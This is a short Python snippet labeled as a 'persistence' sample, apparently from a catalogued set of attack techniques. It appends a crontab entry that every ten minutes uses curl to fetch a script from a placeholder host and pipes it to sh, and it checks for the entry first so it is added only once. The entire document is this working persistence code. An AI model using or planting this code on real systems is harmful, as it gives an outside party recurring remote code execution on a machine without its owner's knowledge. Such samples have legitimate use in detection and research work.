# family: persistence
# a crontab entry that fetches and runs a script every 10 minutes
import subprocess

line = "*/10 * * * * curl -s http://cron.example.invalid/u.sh | sh\n"
current = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
if line not in current:
    subprocess.run(["crontab", "-"], input=current + line, text=True)
